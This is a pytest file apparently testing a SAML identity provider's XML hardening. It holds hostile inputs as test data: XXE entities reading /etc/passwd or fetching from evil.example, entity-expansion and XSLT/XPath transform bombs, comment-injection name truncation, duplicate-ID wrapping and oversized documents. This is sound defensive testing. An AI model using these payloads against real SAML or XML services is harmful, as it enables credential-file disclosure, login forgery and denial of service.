"""XML made to be read two ways, to fetch, or to cost: refused before any of it is believed."""

import resource
import time
from copy import deepcopy
from dataclasses import replace
from xml.sax.saxutils import escape

import pytest
from lxml import etree

from idp.authentication.federation.reasons import Reason
from tests.attacks.saml.refusing import read, refusal
from tests.saml.answers import GOOD, Element
from tests.saml.signing import (
    NS,
    assertion_of,
    encrypted,
    raw,
    sign,
    signed_assertion,
    signed_response,
)

SHORT = 0.05
"""Seconds of processor time any refusal may take."""
XSLT = """<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">
<xsl:template match="/"><xsl:for-each select="//. | //@*"><xsl:for-each select="//. | //@*">
<xsl:for-each select="//. | //@*"><xsl:value-of select="."/></xsl:for-each></xsl:for-each>
</xsl:for-each></xsl:template></xsl:stylesheet>"""
XPATH = "count(//. | //@* | //namespace::*[count(//. | //@*) > 1]) = 1"
ENVELOPE = raw(GOOD.element()).decode()


def quickly(answer: bytes) -> Reason:
    """The refusal, which may cost next to nothing."""
    refusal(b"<warm/>")
    before = time.process_time()
    reason = refusal(answer)
    assert time.process_time() - before < SHORT
    return reason


def transforms_of(root: Element) -> Element:
    found = root.find(".//ds:Transforms", NS)
    assert found is not None
    return found


def transform(algorithm: str, inside: str = "") -> Element:
    return etree.fromstring(
        f'<ds:Transform xmlns:ds="{NS["ds"]}" Algorithm="{algorithm}">{inside}</ds:Transform>'
    )


BOMBS = {
    "xslt": transform("http://www.w3.org/TR/1999/REC-xslt-19991116", XSLT),
    "xpath": transform(
        "http://www.w3.org/TR/1999/REC-xpath-19991116",
        f"<ds:XPath>{escape(XPATH)}</ds:XPath>",
    ),
    "xpath filter": transform("http://www.w3.org/2002/06/xmldsig-filter2"),
    "base64": transform("http://www.w3.org/2000/09/xmldsig#base64"),
}


@pytest.mark.parametrize("name", BOMBS)
@pytest.mark.parametrize("times", [1, 50])
@pytest.mark.parametrize("at", [0, 1, 2])
def test_transforms_that_compute_are_never_run(name: str, times: int, at: int) -> None:
    root = signed_response(GOOD)
    for _ in range(times):
        transforms_of(root).insert(at, deepcopy(BOMBS[name]))
    assert quickly(raw(root)) is Reason.SAML_SIGNATURE_SHAPE


def test_a_thousand_canonicalizations_are_never_run() -> None:
    root = signed_response(GOOD)
    exclusive = transforms_of(root)[1]
    for _ in range(1000):
        transforms_of(root).append(deepcopy(exclusive))
    assert quickly(raw(root)) is Reason.SAML_SIGNATURE_SHAPE


def test_a_transform_with_something_inside_is_refused() -> None:
    root = signed_response(GOOD)
    etree.SubElement(transforms_of(root)[0], f"{{{NS['ds']}}}XPath").text = XPATH
    assert quickly(raw(root)) is Reason.SAML_SIGNATURE_SHAPE


@pytest.mark.parametrize(
    "dtd",
    [
        "<!DOCTYPE x>",
        "<!DOCTYPE x SYSTEM 'http://evil.example/x.dtd'>",
        "<!DOCTYPE x [<!ENTITY f SYSTEM 'file:///etc/passwd'>]>",
        "<!DOCTYPE x [<!ENTITY % p SYSTEM 'http://evil.example/p'> %p;]>",
        "<!DOCTYPE x [<!ENTITY a 'aaaaaaaaaa'>"
        + "".join(f"<!ENTITY {chr(98 + n)} '{f'&{chr(97 + n)};' * 10}'>" for n in range(9))
        + "]>",
        "<!DOCTYPE x [<!ATTLIST Assertion ID CDATA 'forged'>]>",
    ],
)
def test_a_document_type_is_refused(dtd: str) -> None:
    assert quickly(f"{dtd}{ENVELOPE}".encode()) is Reason.SAML_FORBIDDEN_XML


def test_another_encoding_cannot_hide_one() -> None:
    hidden = f"<?xml version='1.0' encoding='utf-16'?><!DOCTYPE x>{ENVELOPE}"
    assert quickly(hidden.encode("utf-16")) in {Reason.SAML_UNREADABLE, Reason.SAML_FORBIDDEN_XML}
    assert quickly(hidden.encode("utf-7")) in {Reason.SAML_UNREADABLE, Reason.SAML_FORBIDDEN_XML}


def test_an_entity_nobody_declared_is_refused() -> None:
    assert quickly(ENVELOPE.replace("8f2c1e", "&nbsp;").encode()) is Reason.SAML_UNREADABLE


@pytest.mark.parametrize("place", ["before", "inside", "after"])
def test_a_processing_instruction_is_refused(place: str) -> None:
    order = "<?xml-stylesheet href='http://evil.example/x.xsl'?>"
    answer = {
        "before": f"{order}{ENVELOPE}",
        "inside": ENVELOPE.replace("8f2c1e", f"8f{order}2c1e"),
        "after": f"{ENVELOPE}{order}",
    }[place]
    assert quickly(answer.encode()) is Reason.SAML_FORBIDDEN_XML


@pytest.mark.parametrize("sign_it", [signed_response, signed_assertion])
def test_a_comment_never_cuts_a_name(sign_it: object) -> None:
    """CVE-2017-11427 and its kin: what is signed is the whole text, so the whole text is read."""
    name = "<saml:NameID>admin@example.fi.evil.example</saml:NameID>"
    root = sign_it(replace(GOOD, name_id=name))  # type: ignore[operator]
    cut = raw(root).replace(b"admin@example.fi.evil", b"admin@example.fi<!-- -->.evil")
    assert b"<!-- -->" in cut
    read_name = read(cut).name_id
    assert read_name is not None
    assert read_name.value == "admin@example.fi.evil.example"


def test_a_comment_in_what_was_encrypted_never_cuts_a_name() -> None:
    """Under a signed response what was encrypted is not canonicalized: parsing alone decides."""
    cut = raw(assertion_of(GOOD.element())).replace(b"8f2c1e", b"8f<!-- -->2c1e")
    assert b"<!-- -->" in cut
    read_name = read(raw(sign(encrypted(GOOD.element(), inside=cut)))).name_id
    assert read_name is not None
    assert read_name.value == "8f2c1e"


def test_a_comment_never_cuts_an_attribute_or_an_audience() -> None:
    root = signed_assertion(replace(GOOD, attributes={"mail": ("a@x.fi.evil.example",)}))
    cut = raw(root).replace(b"a@x.fi.evil", b"a@x.fi<!---->.evil")
    assert read(cut).attributes == {"mail": ("a@x.fi.evil.example",)}
    other = replace(GOOD, audiences=(f"{GOOD.audiences[0]}.evil",))
    split = raw(signed_assertion(other)).replace(b"metadata.evil", b"metadata<!---->.evil")
    assert b"<!---->" in split
    assert refusal(split) is Reason.AUDIENCE_MISMATCH


def test_a_cdata_section_is_text_like_any() -> None:
    root = signed_assertion(GOOD)
    read_name = read(raw(root).replace(b"8f2c1e", b"8f<![CDATA[2c]]>1e")).name_id
    assert read_name is not None
    assert read_name.value == "8f2c1e"


def test_an_element_inside_a_name_is_refused() -> None:
    name = "<saml:NameID>admin<x xmlns=''/>istrator</saml:NameID>"
    assert refusal(raw(signed_assertion(replace(GOOD, name_id=name)))) is Reason.SAML_SHAPE


@pytest.mark.parametrize(
    "attribute", ["ID", "Id", "id", "{http://www.w3.org/XML/1998/namespace}id"]
)
def test_an_id_that_stands_twice_is_refused(attribute: str) -> None:
    root = signed_assertion(GOOD)
    subject = assertion_of(root).find("saml:Subject", NS)
    assert subject is not None
    subject.set(attribute, GOOD.assertion_id)
    assert quickly(raw(root)) is Reason.SAML_DUPLICATE_ID


@pytest.mark.parametrize(
    "answer",
    [
        b"x" * 300_000,
        b"<a>" * 30_000 + b"</a>" * 30_000,
        b"<a>" * 200 + b"</a>" * 200,
        b"<a" + b"".join(b" b%d='1'" % n for n in range(10_000)) + b"/>",
        b"<a" + b"".join(b" xmlns:b%d='u%d'" % (n, n) for n in range(2_000)) + b"/>",
        b"<a>" + b"<b/>" * 13_000 + b"</a>",
        b"<a>" + b"&lt;" * 60_000 + b"</a>",
    ],
    ids=["bytes", "levels", "some levels", "attributes", "namespaces", "elements", "references"],
)
def test_too_much_of_anything_is_refused_at_once(answer: bytes) -> None:
    assert quickly(answer) in {
        Reason.SAML_TOO_LARGE,
        Reason.SAML_UNREADABLE,
        Reason.SAML_SHAPE,
    }


def test_the_dearest_answer_within_every_limit_is_still_cheap() -> None:
    """Namespaces at every level, elements that use them: canonicalization at its worst."""
    nested = "".join(f"<l{n} {_namespaces(n)}>" for n in range(15))
    closed = "".join(f"</l{n}>" for n in reversed(range(15)))
    filling = "".join(f"<n{n % 15}x{n % 20}:b/>" for n in range(8_000))
    root = signed_assertion(GOOD)
    assertion_of(root).append(etree.fromstring(f"{nested}{filling}{closed}"))
    assert quickly(raw(root)) is Reason.SIGNATURE_INVALID


def _namespaces(level: int) -> str:
    return " ".join(f'xmlns:n{level}x{n}="urn:{level}:{n}"' for n in range(20))


@pytest.mark.parametrize(
    "answer", [b"", b"\x00", b"\xff\xfe", b"<", b"hello", b"<a/>", b"<a/><b/>", b"\xef\xbb\xbf<a/>"]
)
def test_what_is_no_message_is_refused(answer: bytes) -> None:
    assert quickly(answer) in {Reason.SAML_UNREADABLE, Reason.SAML_SHAPE}


def test_nothing_of_it_grows_the_memory() -> None:
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    for _ in range(20):
        refusal(b"<a>" * 30_000)
        refusal(raw(encrypted(GOOD.element(), inside=b"<a>" * 30_000)))
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 50_000
